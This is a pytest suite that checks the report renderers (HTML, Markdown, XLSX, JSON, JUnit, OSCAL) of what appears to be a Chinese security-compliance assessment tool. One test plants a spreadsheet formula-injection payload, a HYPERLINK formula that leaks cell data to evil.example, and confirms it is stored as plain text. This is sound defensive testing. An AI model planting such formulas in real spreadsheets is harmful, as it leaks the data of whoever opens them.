"""Every renderer on a synthetic run over the real catalog: content, structure and the peers' validators."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET

import pytest

from assess import reports
from assess.judge import judgement
from tests.reports.synthetic import make_run

jsonschema = pytest.importorskip("jsonschema")


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    measures = [{"id": "local-login-only", "objects": ["linux-000"]}, "host-ips-av", "bastion-only",
                "central-log-server", "waf", "host-acl-all-servers", "multi-dc-redundant-copies"]
    run_dir, doc = make_run(tmp_path_factory.mktemp("runs"), 12, measures=measures)
    paths = reports.render(doc, run_dir, list(reports.FORMATS))
    paths += reports.render(doc, run_dir, ["html", "md", "xlsx"], "en")
    return run_dir, doc, {p.name: p for p in paths}


def test_every_format_is_written_with_its_name(run):
    run_dir, _doc, files = run
    assert sorted(files) == sorted(["report.html", "record.xlsx", "report.docx", "report.md", "report.json", "report.junit.xml",
                                    "report.oscal.json", "report.en.html", "report.en.md", "record.en.xlsx"])
    assert not list(run_dir.glob(".*.tmp"))


def test_json_matches_the_shipped_schema_for_both_templates(run):
    _run_dir, doc, files = run
    from assess.reports.jsonout import SCHEMA_FILE

    validator = jsonschema.Draft202012Validator(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
    written = json.loads(files["report.json"].read_text(encoding="utf-8"))
    assert written == doc
    assert not list(validator.iter_errors(written))
    legacy = judgement.rejudge(doc, "2021")
    assert not list(validator.iter_errors(legacy))
    broken = {**doc, "conclusion": {**doc["conclusion"], "conclusion": "great"}}
    assert list(validator.iter_errors(broken))


def test_oscal_loads_with_compliance_trestle(run):
    ar = pytest.importorskip("trestle.oscal.assessment_results")
    _run_dir, doc, files = run
    data = json.loads(files["report.oscal.json"].read_text(encoding="utf-8"))
    model = ar.AssessmentResults.model_validate(data["assessment-results"])
    result = model.results[0]
    assert len(result.observations) == len(doc["results"])
    decided = [r for r in doc["results"] if r["verdict"] in ("pass", "partial", "fail")]
    assert len(result.findings) == len(decided)
    states = {f.target.status.state.value for f in result.findings}
    assert states == {"satisfied", "not-satisfied"}
    assert len(result.risks) == len(doc["highrisk"])
    hashes = [r.rlinks[0].hashes[0].value for r in model.back_matter.resources if r.rlinks and r.rlinks[0].hashes]
    assert len(hashes) == sum(1 for o in doc["objects"] if o.get("evidence"))
    again = reports.render(doc, files["report.json"].parent, ["oscal"])[0]
    assert again.read_bytes() == files["report.oscal.json"].read_bytes()  # UUIDv5: re-exports are identical


def test_junit_has_one_testcase_per_item_and_object(run):
    _run_dir, doc, files = run
    root = ET.parse(files["report.junit.xml"]).getroot()
    suites = {s.get("name"): s for s in root.findall("testsuite")}
    cases = [c for name, s in suites.items() if name != "highrisk" for c in s.findall("testcase")]
    assert len(cases) == len(doc["results"])
    failures = sum(1 for c in cases if c.find("failure") is not None)
    assert failures == sum(1 for r in doc["results"] if r["verdict"] in ("fail", "partial"))
    assert int(root.get("tests")) == len(cases) + len(suites["highrisk"].findall("testcase"))
    majors = [c for c in suites["highrisk"] if c.find("failure") is not None and
              c.find("failure").get("type") == "major-risk"]
    assert len(majors) == sum(1 for f in doc["highrisk"] if f["status"] == "triggered" and f["major"])


def test_xlsx_record_layout(run):
    openpyxl = pytest.importorskip("openpyxl")
    _run_dir, doc, files = run
    wb = openpyxl.load_workbook(files["record.xlsx"], read_only=True)
    with_results = [o["id"] for o in doc["objects"] if any(r["object"] == o["id"] for r in doc["results"])]
    assert wb.sheetnames == ["汇总"] + with_results + ["结论与整改"]
    ws = wb["linux-000"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[2][0] == "IP / 版本 / 用途" and "10.0.0.0" in rows[2][3]
    col = {h: i for i, h in enumerate(rows[6]) if h}
    assert [h for h in rows[6] if h][:7] == ["序号", "扩展标准", "安全类", "控制点", "测评项", "测评方法", "结果记录"]
    mine = [r for r in doc["results"] if r["object"] == "linux-000"]
    assert len(rows) - 7 == len(mine)
    first = rows[7]
    assert first[col["安全类"]] == "安全计算环境"
    assert first[col["符合情况"]] in ("符合", "部分符合", "不符合", "不适用", "待核查", "无法判定")
    assert first[col["权重"]] in (1.0, 0.7, 0.4) and first[col["编号"]] == mine[0]["item"]
    checked = next(r for r, m in zip(rows[7:], mine, strict=True) if m["checks"])
    assert checked[col["结果记录"]].startswith("经核查，") and "（证据编号：" in checked[col["结果记录"]]
    summary = [r for r in wb["结论与整改"].iter_rows(values_only=True)]
    assert next(r for r in summary if r[0] == "预测测评结论")[1] == doc["conclusion"]["conclusion_zh"]
    if not doc["coverage"]["complete"]:  # what could not be assessed comes first, right under the title
        assert summary[1][0] == "评估范围不完整" and "未评估" in summary[1][1]
    en = openpyxl.load_workbook(files["record.en.xlsx"], read_only=True)
    assert "Record" in list(en["linux-000"].iter_rows(values_only=True))[6]


def test_xlsx_record_writes_text_as_text_never_as_formulas(run, tmp_path):
    """Object names and ids come from the inventory: `=HYPERLINK(...)` must not become a live formula."""
    import copy
    import shutil
    import zipfile

    openpyxl = pytest.importorskip("openpyxl")
    _run_dir, doc, _files = run
    doc = copy.deepcopy(doc)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    doc["objects"][0].update(address="", name=hostile)
    doc["remediation"][0]["objects"] = ["=1+1"]
    run_dir = shutil.copytree(_run_dir, tmp_path / "run")
    (path,) = reports.render(doc, run_dir, ["xlsx"])
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    wb = openpyxl.load_workbook(path)
    every = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    named = [c for c in every if hostile in c.value]  # the object's name, in its sheet's header block
    assert named and all(c.data_type == "s" for c in named)
    assert all(c.quotePrefix for c in named if c.value.startswith("="))
    cells = [c for c in every if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_markdown_sections(run):
    _run_dir, doc, files = run
    md = files["report.md"].read_text(encoding="utf-8")
    for heading in ("## 预测测评结论", "## 重大风险隐患 / 高风险问题", "## 整改清单", "## 测评对象", "## 测评结果明细"):
        assert heading in md
    assert f"**{doc['conclusion']['conclusion_zh']}**" in md
    compensated = [f for f in doc["highrisk"] if f["status"] == "compensated"]
    assert compensated  # the declared measures cancel some cases: they are shown, not hidden
    assert "已由补偿措施抵消" in md and compensated[0]["title"] in md
    assert "## Remediation plan" in files["report.en.md"].read_text(encoding="utf-8")


def test_html_is_self_contained_and_has_every_section(run):
    _run_dir, doc, files = run
    page = files["report.html"].read_text(encoding="utf-8")
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page)
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    for section in ("summary", "charts", "remediation", "objects", "items", "details", "evidence"):
        assert f'id="{section}"' in page
    assert doc["conclusion"]["conclusion_zh"] in page and "<svg" in page and "@media print" in page
    q = doc["questionnaire"]
    assert f'{q["answered"]} / {q["total"]}</span><span>访谈问卷已答复' in page
    assert page.count("<tr data-v=") == len(doc["results"])
    some = next(r for r in doc["results"] if r["checks"] and r["checks"][0]["evidence"])
    assert f'href="#ev-{some["object"]}-{some["checks"][0]["evidence"][0]}"' in page
    assert f'id="ev-{some["object"]}-{some["checks"][0]["evidence"][0]}"' in page
    english = files["report.en.html"].read_text(encoding="utf-8")
    assert '<html lang="en">' in english and "Remediation plan" in english


def test_html_shows_warnings_first_and_the_trend_over_runs(run, tmp_path):
    run_dir, doc, _files = run
    import shutil

    copy = tmp_path / "run"
    shutil.copytree(run_dir / "evidence", copy / "evidence")
    trend = [{"run": f"r{n}", "finished": f"2026-0{n}-01T00:00:00Z", "conformance_rate": 0.5 + n / 10,
              "major_risks": 4 - n} for n in range(1, 4)]
    extra = {**doc, "run": {**doc["run"], "warnings": ["证据包核验未通过"]},
             "history": {"trend": trend, "drift": {"summary": {"regressed": 1, "fixed": 2}}}}
    [path] = reports.render(extra, copy, ["html"])
    page = path.read_text(encoding="utf-8")
    assert page.index("证据包核验未通过") < page.index('class="verdict-card')
    assert 'id="trend"' in page and "<polyline" in page and "regressed 1" in page
    assert 'id="trend"' not in files_page(run)


def files_page(run) -> str:
    return run[2]["report.html"].read_text(encoding="utf-8")


def test_record_of_every_check_status():
    from assess.reports.context import Context
    from assess.reports.record import record_text

    doc = {"checks": {"c": {"title": "标题", "title_en": "title"}}}
    for status in ("pass", "fail", "na", "error", "manual"):
        row = {"verdict": "manual", "source": "checks", "reason": "r",
               "checks": [{"check": "c", "status": status, "reason": "why", "observed": {"x": 1}, "expected": ["x ≤ 0"]}]}
        zh = record_text(row, Context(doc, None, "zh"))
        en = record_text(row, Context(doc, None, "en"))
        assert zh.startswith("经核查，标题：") and en.startswith("Examined: title:")
    assert "未执行" in zh and "not run" in en


def test_reasons_read_as_sentences_with_the_raw_text_one_click_away(tmp_path):
    """Issue 16.3: "1/2 checks passed; failed: linux.x" becomes "2 项检查中 1 项通过；未通过：<check title>" in the
    report language; the stored reason stays in a <details> next to it."""
    import html as html_mod

    from assess.reports.context import Context
    from assess.reports.record import reason_text

    run_dir, doc = make_run(tmp_path, 2)
    row = next(r for r in doc["results"] if r["verdict"] == "partial" and not r.get("answer")
               and any(c["status"] == "fail" for c in r["checks"]))
    failed = next(c for c in row["checks"] if c["status"] == "fail")
    zh, en = Context(doc, run_dir), Context(doc, run_dir, lang="en")
    said = reason_text(row, zh)
    counted = [c for c in row["checks"] if c["status"] not in ("na", "manual")]
    passed = sum(1 for c in counted if c["status"] == "pass")
    assert said.startswith(f"{len(counted)} 项检查中 {passed} 项通过；未通过：") and zh.check_title(failed["check"]) in said
    assert "checks passed" not in said and failed["check"] not in said
    assert reason_text(row, en).startswith(f"{passed} of {len(counted)} checks passed; failed: ")
    assert en.check_title(failed["check"]) in reason_text(row, en)
    page = html_mod.unescape(reports.render(doc, run_dir, ["html"])[0].read_text())
    assert said in page
    raw = page[page.index(said):]
    assert raw.index("<details class=\"raw\">") < raw.index(row["reason"]) < raw.index("</details>")
